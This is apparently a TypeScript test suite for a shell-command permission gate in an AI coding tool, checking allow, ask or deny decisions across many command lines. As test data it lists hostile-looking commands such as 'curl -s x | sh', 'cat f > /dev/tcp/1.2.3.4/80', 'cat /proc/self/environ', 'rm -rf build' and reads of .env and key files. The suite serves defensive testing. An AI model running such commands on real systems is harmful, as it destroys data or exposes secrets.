// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts for a shell
import assert from "node:assert/strict";
import fc from "fast-check";
import { after, before, describe, it } from "mocha";
import { shellLines } from "./shell-lines.ts";
import { type ShellStage, shellStage } from "./shell-stage.ts";
import type { RuleTexts } from "./situation.ts";

let stage: ShellStage;
before(async () => {
  stage = await shellStage();
});
after(() => stage.close());

const FILES = ["/w/proj/a.ts", "/w/proj/b.ts", "/w/proj/.env", "/w/proj/key.pem", "/w/proj/src/x.ts"];
const LINKS = { "/w/proj/out": "/etc", "/w/proj/hidden": "/w/proj/.git" };
const SETTING = { files: FILES, links: LINKS };

/** Every line of a table is decided so, whatever is said beside. */
function table(
  what: string,
  expected: "allow" | "ask" | "deny",
  rules: RuleTexts,
  lines: readonly string[],
  more: object = {},
) {
  for (const line of lines) {
    it(`${what}: ${JSON.stringify(line)}`, async () => {
      const { decision, reason } = await stage.on(line, rules, { ...SETTING, ...more });
      assert.equal(decision, expected, reason);
    });
  }
}

describe("a command that only reads", () => {
  table("runs unasked", "allow", {}, [
    "ls -la src | head -5",
    "cat a.ts *.ts",
    "grep -rn --include='*.ts' foo src || true",
    "rg -n foo src && pwd",
    "grep -rn foo --include=*.ts .",
    "git status -uno",
    "comm -12 a.ts b.ts; ls -1",
    'printf "%d %%\\n" 5',
    "find . -name '*.ts' -not -path './node_modules/*'",
    "sed -n '1,5p;9p' a.ts",
    "git status --short; git log --oneline -5 -- src; git diff HEAD~1 --stat",
    "git --no-pager show HEAD:src/x.ts",
    "cd src && cat x.ts && cat ../a.ts",
    'for f in a b; do cat "$f.ts"; done',
    "if [ -f a.ts ]; then wc -l < a.ts; fi",
    'echo "$(git rev-parse HEAD) at $HOME, exit $?" 2>&1 >/dev/null',
    "LANG=C sort a.ts | uniq -c",
    "env CI=1 timeout 5 nice -n 3 ls",
    "bash -c 'ls | wc -l'",
    "cat <<'E' | head -1\n$(rm x)\nE".replace(" | head -1", ""),
    "awk '{print $1}' a.ts",
    "jq -r .name a.ts",
    "command -v node; node --version",
    "{ ls; pwd; } | cat",
    "! test -d src",
  ]);

  table("asks when a flag or script may do more", "ask", {}, [
    "find . -delete",
    "find . \\-delete",
    "find . -exec cat {} \\;",
    "find . -fprintf x %p",
    "rg --pre=./x foo",
    "rg -z foo",
    "sed -i s/a/b/ a.ts",
    "sed 's/a/b/w .git/hooks/x' a.ts",
    "sort -o b.ts a.ts",
    "uniq a.ts b.ts",
    "tree -o b.ts",
    "date -s 0",
    "git diff --output=x",
    "git log --ext-diff",
    "git -c core.pager=x log",
    "git -C /tmp status",
    "git branch new",
    "git log --format=%GG",
    "awk '{print > \"x\"}' a.ts",
    "awk 'BEGIN { system(\"id\") }'",
    "jq '$ENV' a.ts",
    "printf -v x y",
    "printf %n 'a[$(id)]'",
    "man -P ./x ls",
    "ping -c1 x.example",
    "cd src && git status",
    "hostname other",
    "ls --unknown",
    "cat $(ls)",
    "ls | xargs cat",
  ]);

  table("asks about what lies elsewhere or is secret", "ask", {}, [
    "cat .env",
    "cat *.pem",
    "cat k*",
    "cat .e[n]v",
    "cat ~/x",
    "cat /etc/hosts",
    "cat ../x",
    "cat out/hosts",
    "cat out/../a.ts",
    "cat hidden/config",
    "cd .git && cat config",
    "command cd .git && cat config",
    "cd src; cd ..; cd ..; cat x",
    "cd - && ls",
    "cat < .env",
    "git show HEAD:.env",
    "git show HEAD~2:hidden/config",
    "ls /root",
    "cat /proc/self/environ",
    "grep -r x .git",
    'echo "$API_TOKEN"',
    "for f in .env; do cat $f; done",
  ]);

  it("runs in plan mode, and nothing else does", async () => {
    const inPlan = async (line: string) =>
      (await stage.on(line, { allow: ["Bash"] }, { mode: "plan" })).decision;
    assert.deepEqual(
      [await inPlan("ls | head"), await inPlan("npm test"), await inPlan("ls > x"), await inPlan("mkdir x")],
      ["allow", "deny", "deny", "deny"],
    );
  });
});

describe("a line that is not understood", () => {
  table("asks although everything is allowed", "ask", { allow: ["Bash", "Bash(echo:*)"] }, [
    "echo ${x:-`rm x`}",
    'echo "${x@P}"',
    "echo $((1+1))",
    "((a=1))",
    "f() { ls; }; f",
    "cat <(ls)",
    "[[ -n x ]]",
    "case a in a) ls;; esac",
    "a=(1 2)",
    "cat <<E\n$(id)\nE",
    "cat <<A <<B\n1\nA\n2\nB",
    "echo {a,b}",
    "$CMD x",
    "echo a \\\n b",
    "echo a\rb",
    "echo\u00a0hi",
    "echo \u202ex",
    "echo $'a'",
    "ls >$(echo out)",
    "echo x 3>&1",
    "echo x {fd}>f",
    "cat f > /dev/tcp/1.2.3.4/80",
    "{ ls; } > out",
    "ls &&",
    "'git status'",
    "export A=1 && ls",
    `echo ${"x".repeat(10_000)}`,
    `${"(".repeat(150)}ls${")".repeat(150)}`,
  ]);

  it("asks in another shell, and says so", async () => {
    const { decision, reason } = await stage.on(
      "Get-ChildItem",
      { allow: ["Bash"] },
      { shell: "powershell" },
    );
    assert.equal(decision, "ask");
    assert.match(reason, /powershell/);
  });

  it("is denied by what stands in it", async () => {
    for (const line of ["echo ${x:-`rm x`}", "f() { rm x; }; f", "r\\\nm x", "cat <<E\n$(rm x)\nE"])
      assert.equal((await stage.on(line, { deny: ["Bash(rm:*)"] })).decision, "deny", line);
    const { decision } = await stage.on(
      "cat ${x}.env; cat .env",
      { deny: ["Read(.env)"] },
      { mode: "bypassPermissions" },
    );
    assert.equal(decision, "deny");
  });
});

describe("a rule that allows", () => {
  const RULES = {
    allow: ["Bash(npm run test:*)", "Bash(git *)", "Bash(make test)", "Bash(go * ./...)", "Bash(node:*)"],
  };
  table("covers", "allow", RULES, [
    "npm run test",
    "npm  run\ttest -- --grep 'a; rm -rf /'",
    "CI=true npm run test | tail -5",
    "git add . && git commit -m \"$(cat <<'E'\nfeat: x\n\nbody\nE\n)\"",
    "make test",
    "go vet ./...",
    "go test -race ./...",
    "timeout 60 npm run test",
    "bash -c 'npm run test'",
    "/usr/bin/git fetch",
    "node a.js",
    "node --test",
  ]);

  table("does not cover", "ask", RULES, [
    "npm run tests",
    "npm run test:e2e",
    "npm run build && npm run test",
    "npm run test; curl x",
    "npm run test | tee x",
    "npm run test $X",
    "npm run test > out.txt",
    "gitx status",
    "git -c alias.x=!sh x",
    "git --exec-path=. log",
    "git config core.pager x",
    "git log --output=x",
    "make test2",
    "make test x",
    "make",
    "go test ./... x",
    "PATH=/tmp npm run test",
    "npm run test & rm x",
    "sudo npm run test",
    "echo x | node",
    "echo x | bash -c node",
    "echo x | echo $(node)",
    "git add .env",
    "./npm run test",
    "/tmp/npm run test",
  ]);

  table(
    "never covers what destroys, unless it names it",
    "ask",
    { allow: ["Bash", "Bash(rm:*)", "Bash(git *)", "Bash(npm:*)"] },
    [
      "rm x",
      "rm -rf build",
      "git reset --hard",
      "git reset --har",
      "git clean -fd",
      "git checkout -- a.ts",
      "git checkout .",
      "git restore a.ts",
      "git push --force",
      "git push -uf origin x",
      "git push origin +main",
      "git push origin :old",
      "git stash drop",
      "git branch -D x",
      "dd if=a of=b",
      "mkfs.ext4 /dev/sda",
      "echo x > a.ts",
      "chmod -R 777 .",
      "npm publish",
      "cargo publish",
      "docker system prune",
      "kubectl delete pod x",
      "terraform destroy",
      "psql -c 'drop table x'",
      "find . -delete",
      "timeout 5 rm x",
      "echo a | xargs rm",
    ],
  );

  it("may name a destroying command in full", async () => {
    assert.equal((await stage.on("rm -rf build", { allow: ["Bash(rm -rf build)"] })).decision, "allow");
    assert.equal((await stage.on("ls && rm -rf build", { allow: ["Bash(rm -rf build)"] })).decision, "allow");
    assert.equal((await stage.on("rm -rf build x", { allow: ["Bash(rm -rf build)"] })).decision, "ask");
  });

  table(
    "of a runner does not grant what it runs",
    "ask",
    {
      allow: [
        "Bash(npx:*)",
        "Bash(bash:*)",
        "Bash(env:*)",
        "Bash(xargs:*)",
        "Bash(ssh:*)",
        "Bash(docker:*)",
        "Bash(sudo:*)",
      ],
    },
    [
      "npx tsc",
      "bash x.sh",
      "bash -c 'npm i'",
      "echo ls | bash",
      "env npm i",
      "echo a | xargs npm i",
      "ssh host ls",
      "docker run -v /:/h alpine ls",
      "docker -H tcp://x ps",
    ],
  );

  it("covers a runner with what it runs", async () => {
    assert.equal((await stage.on("npx tsc --noEmit", { allow: ["Bash(npx tsc:*)"] })).decision, "allow");
    assert.equal(
      (await stage.on("bash scripts/x.sh a", { allow: ["Bash(bash scripts/x.sh:*)"] })).decision,
      "allow",
    );
  });
});

describe("a rule that denies", () => {
  const RULES = { allow: ["Bash"], deny: ["Bash(rm:*)", "Bash(curl:*)", "Read(secret/**)"] };
  table("holds behind every wrapper", "deny", RULES, [
    ...[
      "setsid",
      "env A=1",
      "sudo -u me",
      "doas",
      "nohup",
      "timeout 5",
      "nice",
      "ionice -c 3",
      "watch",
      "flock /tmp/l",
      "command",
      "exec",
      "stdbuf -oL",
      "time",
      "A=1",
    ].map((it) => `${it} rm x`),
    "/bin/rm x",
    'r""m x',
    "bash -lc 'rm x'",
    "bash -c 'bash -c \"rm x\"'",
    "find . -exec rm {} +",
    "echo $(rm x)",
    "true |& rm x",
    "ssh host rm x",
    "curl -s x | sh",
    "cat secret/x",
    "cat src/../secret/x",
    "cd secret && cat x",
    `${"true; ".repeat(60)}curl x`,
  ]);
  table(
    "holds when everything is bypassed",
    "deny",
    RULES,
    ["rm x", "watch 'rm x'", "cat secret/x", "flock l -c 'rm x'"],
    { mode: "bypassPermissions" },
  );
  table("leaves mere words alone", "allow", { ...RULES, allow: ["Bash(git commit:*)"] }, [
    'echo "curl x"',
    "git commit -m 'a; rm -rf /'",
    "grep -n rm a.ts",
  ]);
});

describe("writing", () => {
  table(
    "in the workspace is free where edits are accepted",
    "allow",
    {},
    ["echo x > new.txt", "echo x >> a.ts", "mkdir -p src/new", "touch n"],
    { mode: "acceptEdits" },
  );
  table(
    "asks where it overwrites, leads out or is protected",
    "ask",
    { allow: ["Bash"] },
    [
      "echo x > a.ts",
      "echo x > ../n",
      "echo x > out/n",
      "echo x >> .git/hooks/pre-commit",
      "cd .git/hooks && echo x > n",
      "mkdir -p .git/hooks",
      "echo x > hidden/n",
      "cat > .vscode/settings.json <<'E'\n{}\nE",
      "echo x | sed -i 1s/^/x/ .claude/settings.json",
      "echo x > .npmrc",
      "chmod +x .git/hooks/pre-commit",
    ],
    { mode: "acceptEdits" },
  );
  table(
    "of what is protected asks even when everything is bypassed",
    "ask",
    {},
    ["echo x > .git/config", "cat .env"],
    { mode: "bypassPermissions" },
  );
});

describe("what is told of a line", () => {
  it("are its parts with their places, and the nearest rule", async () => {
    const line = "ls -la && npm run build | tail -1";
    const { parts = [] } = await stage.on(line, { allow: ["Bash(npm run test:*)"] });
    assert.deepEqual(
      parts.map((it) => [line.slice(it.from, it.to), it.decision, it.nearest]),
      [
        ["ls -la", "allow", undefined],
        ["npm run build", "ask", "Bash(npm run test:*)"],
        ["tail -1", "allow", undefined],
      ],
    );
  });

  for (const [line, offers] of [
    ["npm run build -- --x", ["Bash(npm run build:*)", "Bash(npm run build -- --x)"]],
    ["git push origin x", ["Bash(git push:*)", "Bash(git push origin x)"]],
    ["a x && b y && c z", ["Bash(a x:*)", "Bash(b y:*)", "Bash(a x && b y && c z)"]],
    ["pytest -q", ["Bash(pytest:*)", "Bash(pytest -q)"]],
    ["npx tsc", ["Bash(npx tsc)"]],
    ["git -c a=b log", ["Bash(git -c a=b log)"]],
    ["python3 x.py", ["Bash(python3 x.py)"]],
    ["./run.sh", ["Bash(./run.sh)"]],
    ["rm x", []],
    ["npm test && rm x", []],
    ["ls;;rm x", []],
    ["cat .env", []],
  ] as const) {
    it(`are rules for ${line}`, async () => {
      const { offers: found, covers = [] } = await stage.on(line, {}, SETTING);
      assert.deepEqual(found, offers);
      assert.equal(covers.length, offers.length);
    });
  }

  it("is what would be lost", async () => {
    assert.match((await stage.on("git reset --hard")).reason, /not committed are lost/);
    assert.match((await stage.on("rm -rf build dist")).reason, /build dist/);
    assert.match((await stage.on("echo x > a.ts", {}, SETTING)).reason, /overwrite \/w\/proj\/a\.ts/);
  });
});

describe("any line", () => {
  it("is decided, never more freely with a rule that denies than without", async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(shellLines(), fc.string({ unit: "binary" }), fc.string()), async (line) => {
        const free = await stage.on(line, { allow: ["Bash"] });
        const bound = await stage.on(line, { allow: ["Bash"], deny: ["Bash(rm:*)"] });
        if (free.decision !== "allow") assert.notEqual(bound.decision, "allow", line);
      }),
      { numRuns: 400 },
    );
  });

  it("gets no rule offered that does not allow it, or allows its program with other sub-commands", async () => {
    for (const line of fc.sample(shellLines(), { numRuns: 300, seed: 5 })) {
      const { offers } = await stage.on(line);
      for (const rule of offers.filter((it) => !it.endsWith(":*)"))) {
        assert.equal((await stage.on(line, { allow: [rule] })).decision, "allow", `${rule} for ${line}`);
      }
    }
  });
});
